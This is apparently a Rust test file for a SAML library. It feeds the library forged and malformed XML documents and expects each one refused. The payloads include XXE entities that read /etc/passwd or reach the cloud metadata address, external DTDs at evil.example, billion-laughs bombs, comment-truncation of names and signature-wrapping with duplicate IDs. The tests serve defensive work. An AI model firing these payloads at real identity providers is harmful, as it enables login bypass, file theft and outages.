//! Documents that readers disagree about, or choke on.

use std::time::{Duration, Instant};

use saml::{receive, wire::Direction};

use crate::{
    Case, Outcome, case,
    forge::{at_the_end, before, behind, swap},
    login::PSEUDONYM,
    stage::{Asked, told},
    world::{self, form},
};

pub(crate) fn cases() -> Vec<Case> {
    [truncated(), declared(), bombs(), malformed(), doubled()].into_iter().flatten().collect()
}

/// A signed logout request, changed where a signature does not see it or before anything is verified.
fn logout(id: &'static str, attack: &'static str, change: impl Fn(&str) -> String + 'static) -> Case {
    case(id, format!("document: {attack}"), move |_| Asked::Logout.receive(&change(&Asked::Logout.signed())))
}

/// A signed response, likewise.
fn response(id: &'static str, attack: &'static str, change: impl Fn(&str) -> String + 'static) -> Case {
    case(id, format!("document: {attack}"), move |stage| stage.response(&change(&stage.signed_assertion())))
}

/// A signature whose canonicalization is told of `prefixes`, with elements where none belong: it must be refused before anything
/// is canonicalized.
fn listed(id: &'static str, attack: &'static str, prefixes: &str, elements: usize) -> Case {
    let list = format!(
        "<ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\" PrefixList=\"{prefixes}\">{}\
         </ec:InclusiveNamespaces></ds:CanonicalizationMethod>",
        "<a/>".repeat(elements)
    );
    case(id, format!("bomb: {attack}"), move |_| {
        let bomb = before(&Asked::Logout.signed(), "</ds:CanonicalizationMethod>", &list);
        let bomb =
            swap(&bomb, "</ds:CanonicalizationMethod></ds:CanonicalizationMethod>", "</ds:CanonicalizationMethod>");
        let received = receive::post(&form(Direction::Request, &bomb));
        let start = Instant::now();
        let outcome = Asked::Logout.open(&world::provider(), received);
        assert!(start.elapsed() < Duration::from_millis(250), "{attack} took {:?}", start.elapsed());
        outcome
    })
}

/// Canonicalization drops comments, so the signature holds; a reader that takes the first piece of text reads another name.
fn truncated() -> Vec<Case> {
    let split = |text: &str, by: &str| {
        let (first, rest) = PSEUDONYM.split_at(8);
        swap(text, PSEUDONYM, &format!("{first}{by}{rest}"))
    };
    vec![
        response("D-1", "a comment inside the name of the person (CVE-2017-11427)", move |text| {
            split(text, "<!-- -->")
        }),
        response("D-2", "a processing instruction inside the name of the person", move |text| split(text, "<?x?>")),
        response("D-3", "a CDATA section inside the name of the person", move |text| split(text, "<![CDATA[]]>")),
        response("D-4", "an element inside the name of the person", move |text| split(text, "<x></x>")),
        logout("D-5", "a comment inside the name in a logout request", |text| swap(text, "anna", "an<!---->na")),
        logout("D-6", "a CDATA section as the name in a logout request", |text| swap(text, "anna", "<![CDATA[anna]]>")),
        logout("D-7", "a comment inside the issuer", |text| {
            swap(text, "https://sp.example", "https://sp<!---->.example")
        }),
        logout("D-8", "a comment between the elements", |text| behind(text, "</ds:Signature>", "<!-- -->")),
        response("D-9", "a comment inside the audience", |text| {
            swap(text, "<saml:Audience>", "<saml:Audience><!---->")
        }),
        response("D-10", "a comment inside the value of an attribute", |text| {
            swap(text, "<saml:AttributeValue>", "<saml:AttributeValue><!---->")
        }),
    ]
}

fn declared() -> Vec<Case> {
    let doctype = |subset: &str, text: &str| format!("<!DOCTYPE r [{subset}]>{text}");
    vec![
        logout("D-11", "a document type alone", |text| format!("<!DOCTYPE r>{text}")),
        logout("D-12", "an entity in the name", move |text| {
            doctype("<!ENTITY e \"berta\">", &swap(text, "anna", "&e;"))
        }),
        logout("D-13", "an external entity that reads a file (XXE)", move |text| {
            doctype("<!ENTITY e SYSTEM \"file:///etc/passwd\">", &swap(text, "anna", "&e;"))
        }),
        logout("D-14", "an external entity that asks the network (XXE)", move |text| {
            doctype("<!ENTITY e SYSTEM \"http://169.254.169.254/\">", &swap(text, "anna", "&e;"))
        }),
        logout("D-15", "a parameter entity", move |text| {
            doctype("<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;", text)
        }),
        logout("D-16", "an external subset", |text| format!("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">{text}")),
        logout("D-17", "an attribute by default that makes an ID (ATTLIST)", move |text| {
            doctype("<!ATTLIST samlp:Extensions ID ID \"_m1\">", text)
        }),
        logout(
            "D-18",
            "a namespace by default (ATTLIST), seen by one parser and not by another (CVE-2025-25292)",
            move |text| doctype("<!ATTLIST saml:NameID xmlns:saml CDATA \"urn:other\">", text),
        ),
        logout("D-19", "an ID that an entity spells (CVE-2025-23369)", move |text| {
            doctype("<!ENTITY i \"_m1\">", &swap(text, "ID=\"_m1\"", "ID=\"&i;\""))
        }),
        logout("D-20", "a document type that hides the end of the document (CVE-2025-25291)", |text| {
            format!("<!DOCTYPE r [ <!NOTATION n PUBLIC '\"'> <!-- \"> -->]>{text}")
        }),
        response("D-21", "a document type with a quotation that two parsers end elsewhere (CVE-2025-66567)", |text| {
            format!("<!DOCTYPE r PUBLIC \"-//'>'//\" 'x' [<!ENTITY e \"]>\">]>{text}")
        }),
        logout("D-22", "an undeclared entity", |text| swap(text, "anna", "&e;")),
        logout("D-23", "a stylesheet", |text| format!("<?xml-stylesheet href=\"http://evil.example/\"?>{text}")),
        logout("D-24", "XInclude as the name", |text| {
            swap(
                text,
                "anna",
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"></xi:include>",
            )
        }),
    ]
}

/// Refused, and refused soon.
fn quick(id: &'static str, attack: &'static str, within: Duration, make: impl Fn() -> Vec<u8> + 'static) -> Case {
    case(id, format!("bomb: {attack}"), move |_| {
        let bytes = make();
        let start = Instant::now();
        let outcome = told(receive::soap(&bytes));
        assert!(start.elapsed() < within, "{attack} took {:?}", start.elapsed());
        outcome
    })
}

fn bombs() -> Vec<Case> {
    const SOON: Duration = Duration::from_millis(250);
    let many = |count: usize, each: fn(usize) -> String| (0..count).map(each).collect::<String>();
    vec![
        quick("B-1", "a billion laughs", SOON, || {
            let mut subset = "<!ENTITY l0 \"lol\">".to_owned();
            for level in 1..10 {
                let inner = format!("&l{};", level - 1).repeat(10);
                subset.push_str(&format!("<!ENTITY l{level} \"{inner}\">"));
            }
            format!("<!DOCTYPE r [{subset}]><r>&l9;</r>").into_bytes()
        }),
        quick("B-2", "one long entity many times (quadratic)", SOON, || {
            let (long, often) = ("a".repeat(50_000), "&e;".repeat(10_000));
            format!("<!DOCTYPE r [<!ENTITY e \"{long}\">]><r>{often}</r>").into_bytes()
        }),
        quick("B-3", "an entity that holds itself", SOON, || b"<!DOCTYPE r [<!ENTITY e \"&e;\">]><r>&e;</r>".to_vec()),
        quick("B-4", "a mebibyte of attributes", SOON, move || {
            format!("<r {}/>", many(90_000, |n| format!("a{n}=\"\" "))).into_bytes()
        }),
        quick("B-5", "65 attributes on one element", SOON, move || {
            world::envelope(&format!("<r {}/>", many(65, |n| format!("a{n}=\"\" "))))
        }),
        quick("B-6", "33 namespaces on one element", SOON, move || {
            world::envelope(&format!("<r {}/>", many(33, |n| format!("xmlns:a{n}=\"urn:x\" "))))
        }),
        quick("B-7", "a few namespaces on each of many elements", SOON, move || {
            let open = many(50, |n| format!("<r xmlns:a{n}=\"urn:x\" xmlns:b{n}=\"urn:x\" xmlns:c{n}=\"urn:x\">"));
            world::envelope(&format!("{open}{}", "</r>".repeat(50)))
        }),
        quick("B-8", "elements nested 65 deep", SOON, || {
            format!("{}{}", "<r>".repeat(65), "</r>".repeat(65)).into_bytes()
        }),
        quick("B-9", "elements nested 40,000 deep", SOON, || "<r>".repeat(40_000).into_bytes()),
        quick("B-10", "ten mebibytes of white space", SOON, || vec![b' '; 10 * 1024 * 1024]),
        quick("B-11", "more than 128 KiB of one text", SOON, || {
            world::envelope(&format!("<r>{}</r>", "a".repeat(128 * 1024)))
        }),
        listed("B-12", "20,000 elements in a list of prefixes to canonicalize by", "", 20_000),
        listed("B-13", "17 prefixes to canonicalize by", &many(17, |n| format!("p{n} ")), 0),
    ]
}

fn malformed() -> Vec<Case> {
    let raw = |id, attack: &str, make: fn(String) -> Vec<u8>| {
        case(id, format!("document: {attack}"), move |_| soap(&make(resolve())))
    };
    vec![
        raw("D-25", "UTF-16", |text| text.encode_utf16().flat_map(u16::to_le_bytes).collect()),
        raw("D-26", "declared as UTF-7", |text| {
            format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{text}").into_bytes()
        }),
        raw("D-27", "declared as XML 1.1, where NEL ends a line", |text| {
            format!("<?xml version=\"1.1\"?>{text}").into_bytes()
        }),
        raw("D-28", "bytes that are no UTF-8", |text| [text.as_bytes(), b"\xc0\x80"].concat()),
        raw("D-29", "a NUL", |text| text.replace("AAQ", "A\0AQ").into_bytes()),
        raw("D-30", "a control character by reference", |text| text.replace("AAQ", "&#1;AAQ").into_bytes()),
        raw("D-31", "an attribute twice", |text| text.replace(" ID=", " ID=\"_x\" ID=").into_bytes()),
        raw("D-32", "an attribute twice under two prefixes of one namespace", |text| {
            text.replace(" ID=", " xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:x=\"\" b:x=\"\" ID=").into_bytes()
        }),
        raw("D-33", "a prefix that is declared nowhere", |text| {
            text.replace("<samlp:Artifact>", "<samlp:Artifact e:x=\"\">").into_bytes()
        }),
        raw("D-34", "a prefix undeclared on the way", |text| {
            text.replace("<samlp:Artifact>", "<samlp:Artifact xmlns:saml=\"\">").into_bytes()
        }),
        raw("D-35", "the prefix xml bound to another namespace", |text| {
            text.replace("<samlp:Artifact>", "<samlp:Artifact xmlns:xml=\"urn:x\">").into_bytes()
        }),
        raw("D-36", "the prefix xmlns declared", |text| {
            text.replace("<samlp:Artifact>", "<samlp:Artifact xmlns:xmlns=\"urn:x\">").into_bytes()
        }),
        raw("D-37", "a second root", |text| format!("{text}<r/>").into_bytes()),
        raw("D-38", "text after the root", |text| format!("{text}text").into_bytes()),
        raw("D-39", "cut off", |text| text.as_bytes()[..text.len() - 9].to_vec()),
        raw("D-40", "end tags crossed", |text| {
            text.replace("</S:Body></S:Envelope>", "</S:Envelope></S:Body>").into_bytes()
        }),
        raw("D-41", "an XML declaration in the middle", |text| {
            text.replace("<samlp:Artifact>", "<?xml version=\"1.0\"?><samlp:Artifact>").into_bytes()
        }),
        raw("D-42", "nothing", |_| Vec::new()),
    ]
}

fn doubled() -> Vec<Case> {
    vec![
        logout("D-43", "one ID on two elements", |text| {
            behind(text, "</ds:Signature>", "<samlp:Extensions ID=\"_m1\"></samlp:Extensions>")
        }),
        logout("D-44", "one ID as ID and as wsu:Id", |text| {
            let utility = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd";
            let other = format!("<x xmlns:wsu=\"{utility}\" wsu:Id=\"_m1\"></x>");
            behind(text, "</ds:Signature>", &format!("<samlp:Extensions>{other}</samlp:Extensions>"))
        }),
        logout("D-45", "one ID as ID and as Id of the signature", |text| {
            swap(text, "<ds:Signature ", "<ds:Signature Id=\"_m1\" ")
        }),
        logout("D-46", "the issuer twice", |text| {
            before(text, "<saml:Issuer", &assertion_element("Issuer", "https://evil.example"))
        }),
        logout("D-47", "the name twice", |text| at_the_end(text, &assertion_element("NameID", "berta"))),
        case("D-48", "document: two messages in one SOAP body", |_| {
            let message = Asked::Resolve.signed();
            soap(&world::envelope(&format!("{}{message}", message.replace("_m1", "_m2"))))
        }),
        case("D-49", "document: two SOAP bodies", |_| {
            let body = format!("<S:Body>{}</S:Body>", Asked::Resolve.message().replace("_m1", "_m2"));
            soap(before(&resolve(), "<S:Body>", &body).as_bytes())
        }),
        case("D-50", "document: a SOAP header that must be understood", |_| {
            let header = "<S:Header><x S:mustUnderstand=\"1\"/></S:Header>";
            soap(before(&resolve(), "<S:Body>", header).as_bytes())
        }),
        case("D-51", "document: a logout request around a signed assertion", |stage| {
            let response = stage.signed_assertion();
            let assertion = crate::forge::cut(&response, "saml:Assertion").to_owned();
            let message = Asked::Logout.message();
            let form = form(Direction::Request, &at_the_end(&message, &assertion));
            Asked::Logout.open(&world::provider(), receive::post(&form))
        }),
    ]
}

fn assertion_element(name: &str, text: &str) -> String {
    format!("<saml:{name} xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\">{text}</saml:{name}>")
}

/// A valid request to resolve an artifact, in its envelope.
fn resolve() -> String {
    String::from_utf8(world::envelope(&Asked::Resolve.signed())).unwrap()
}

fn soap(bytes: &[u8]) -> Outcome {
    Asked::Resolve.open(&world::provider(), receive::soap(bytes))
}
